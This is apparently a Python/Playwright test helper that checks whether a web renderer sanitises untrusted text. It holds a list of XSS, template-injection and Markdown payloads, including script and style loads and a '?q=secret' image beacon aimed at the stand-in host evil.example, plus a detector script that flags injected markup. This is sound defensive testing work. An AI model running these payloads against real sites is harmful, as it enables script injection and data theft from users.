"""Text that wants to be more than text, and a look at a page that tells whether it became more."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from typing import Any

from playwright.sync_api import Page

EVIL = "evil.example"
"""A host that nothing speaks to."""

VECTORS = (
    "<script planted>ran(1)</script>",
    f"<script planted src=https://{EVIL}/1.js></script>",
    "<ScRiPt planted>ran(2)</sCrIpT >",
    "</script><script planted>ran(3)</script>",
    "</title></textarea></style><img planted src=x onerror=ran(4)>",
    "<img planted src=x onerror=ran(5)>",
    f"<img planted src=https://{EVIL}/2.png>",
    f"<img planted srcset='https://{EVIL}/3.png 2x'>",
    "<svg planted onload=ran(6)>",
    "<svg planted><script>ran(7)</script></svg>",
    "<svg planted><animate onbegin=ran(8) attributeName=x dur=1s>",
    "<svg planted><a xlink:href='javascript:ran(9)'><text>a</text></a></svg>",
    "<math planted><mtext><style><img src onerror=ran(10)></style></mtext></math>",
    "<details planted open ontoggle=ran(11)>",
    "<body planted onload=ran(12)>",
    "<input planted autofocus onfocus=ran(13)>",
    "<video planted><source onerror=ran(14)></video>",
    "<a planted href='javascript:ran(15)'>a</a>",
    "<a planted href='&#106;ava&Tab;script:ran(16)'>a</a>",
    "<a planted href='data:text/html,<script>ran(17)</script>'>a</a>",
    "<iframe planted src='javascript:ran(18)'></iframe>",
    "<iframe planted srcdoc='<script>parent.ran(19)</script>'></iframe>",
    f"<object planted data=https://{EVIL}/4></object>",
    f"<embed planted src=https://{EVIL}/5>",
    f"<base planted href=https://{EVIL}/>",
    f"<meta planted http-equiv=refresh content='0;url=https://{EVIL}/6'>",
    f"<link planted rel=stylesheet href=https://{EVIL}/7.css>",
    f"<style planted>@import 'https://{EVIL}/8.css'; body {{display: none}}</style>",
    f"<p planted style=\"background: url('https://{EVIL}/9.png')\">a</p>",
    f"<form planted action=https://{EVIL}/10><button>a</button></form>",
    "<form planted name=body><input name=textContent></form>",
    '"><img planted src=x onerror=ran(20)>',
    "' onmouseover='ran(21)' planted='",
    "javascript:ran(22)//",
    "[a](javascript:ran(23))",
    "[a](data:text/html;base64,PHNjcmlwdD5yYW4oMjQpPC9zY3JpcHQ+)",
    "[a](vbscript:ran(25))",
    f"![a](https://{EVIL}/11.png?q=secret)",
    f"[![a](https://{EVIL}/12.png)](javascript:ran(26))",
    f"<https://{EVIL}/13>",
    "{{constructor.constructor('ran(28)')()}}",
    "${ran(29)}",
    "<%= ran(30) %>",
    "{t('a'), ran(31)}",
    "$t(ran) {{- ran(32)}}",
    "__proto__",
    '=HYPERLINK("https://evil.example","a")',
    "W" * 90,
)
"""What browsers, renderers of Markdown and templates have run or fetched elsewhere.

Markup has an attribute ``planted``; what runs calls ``ran``.
"""

ALL = " ".join(VECTORS)

TURNING = "Words \u202ethat turn\u202c and \u2066isolate\u2069 \u202eand do not end"
"""Controls of the direction of writing. Names may not hold them."""


def pieces(limit: int, *, without: str = "") -> list[str]:
    """All of ``VECTORS`` in texts of up to ``limit`` characters, without some characters."""

    def found() -> Iterator[str]:
        piece = ""
        for vector in VECTORS:
            clean = "".join(each for each in vector if each not in without)
            if piece and len(piece) + 1 + len(clean) > limit:
                yield piece
                piece = ""
            piece = f"{piece} {clean}".lstrip()
        yield piece

    return list(found())


PLANT = "window.seen = []; window.ran = (number) => window.seen.push(number);"

LOOK = """() => {
  const found = window.seen.map((number) => `script ${number} ran`);
  const say = (what, element) => found.push(`${what}: ${element.outerHTML.slice(0, 200)}`);
  const own = (address) => {
    const url = new URL(address, document.baseURI);
    return url.origin === location.origin || (url.protocol === "blob:" && url.origin === location.origin);
  };
  const everything = (root) => [...root.querySelectorAll("*")]
    .flatMap((each) => each.shadowRoot ? [each, ...everything(each.shadowRoot)] : [each]);
  const loads = new Set(["src", "data", "poster", "background", "action", "formaction", "ping", "manifest"]);
  for (const element of everything(document)) {
    const name = element.localName;
    if (element.hasAttribute("planted")) say("markup of others", element);
    if (["iframe", "frame", "object", "embed", "base", "applet", "portal", "foreignobject", "animate", "set", "math"]
      .includes(name)) say("an element that is none of ours", element);
    if (name === "script" && !(element.src && own(element.src))) say("a script that is none of ours", element);
    if (name === "meta" && element.httpEquiv) say("an instruction to the browser", element);
    if (name === "link" && !own(element.href)) say("a link elsewhere", element);
    if (name === "style" && /import|url\\(/.test(element.textContent)) say("a style that loads", element);
    for (const {name: attribute, value} of element.attributes) {
      if (attribute.startsWith("on")) say("a handler", element);
      if (attribute === "srcdoc" || attribute === "srcset") say("a source", element);
      if (attribute === "style" && /url\\(|expression|import/i.test(value)) say("a style that loads", element);
      if (loads.has(attribute) && !own(value)) say("an address that is loaded", element);
      if (attribute === "href" || attribute === "xlink:href") {
        const {protocol} = new URL(value, document.baseURI);
        const known = ["http:", "https:", "mailto:", "blob:"].includes(protocol);
        if (name === "a" && !known) say("a dangerous link", element);
        else if (name === "a" && !own(value) && !/noreferrer/.test(element.rel)) say("a link that tells all", element);
        if (name !== "a" && name !== "link" && !value.startsWith("#")) say("a reference elsewhere", element);
      }
    }
  }
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const text = walker.currentNode;
    if (!/[\\u202a-\\u202e\\u2066-\\u2069]/.test(text.data)) continue;
    let box = text.parentElement;
    const runsOn = ({display, unicodeBidi}) => display === "inline" && !/isolate|plaintext/.test(unicodeBidi);
    while (runsOn(getComputedStyle(box))) box = box.parentElement;
    if (box.querySelector(":scope > ins, :scope > del")) continue; // all of it is of one writer
    if (box.textContent.trim() !== text.data.trim()) say("words that turn their neighbours around", box);
  }
  return found;
}"""


TEXT = """() => {
  const fields = Array.from(document.querySelectorAll("input, textarea"), (each) => each.value);
  return [document.body.textContent, document.title, ...fields].join(" ").replaceAll(/\\s+/g, " ");
}"""


def plant(page: Page) -> None:
    """From the next load on, what runs is seen."""
    page.add_init_script(PLANT)


def dangers(page: Page) -> list[str]:
    """What became more than text in a page that was loaded after ``plant``."""
    found: list[str] = page.evaluate(LOOK)
    return found


def shown(page: Page, texts: Iterable[str]) -> list[str]:
    """Which of ``texts`` stand in the page as they are, but for white space."""
    words: Any = page.evaluate(TEXT)
    return [text for text in texts if " ".join(text.split()) in words]
